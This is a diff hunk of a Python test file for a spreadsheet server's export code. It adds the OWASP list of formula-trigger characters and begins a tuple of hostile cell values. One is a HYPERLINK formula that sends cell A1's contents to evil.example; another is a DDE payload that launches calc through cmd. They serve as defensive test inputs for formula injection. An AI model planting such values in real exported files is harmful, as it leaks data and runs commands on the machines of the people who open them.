@@ -8,9 +8,11 @@ import io
 
 import httpx
 
-from server.spreadsheet import FORMULA_STARTS, Sheet, cell
+from server.spreadsheet import Sheet, cell
 from tests.conftest import bureau, report
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""OWASP's list: a cell starting with one of these runs as a formula."""
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
     "+1+cmd|' /C calc'!A0",
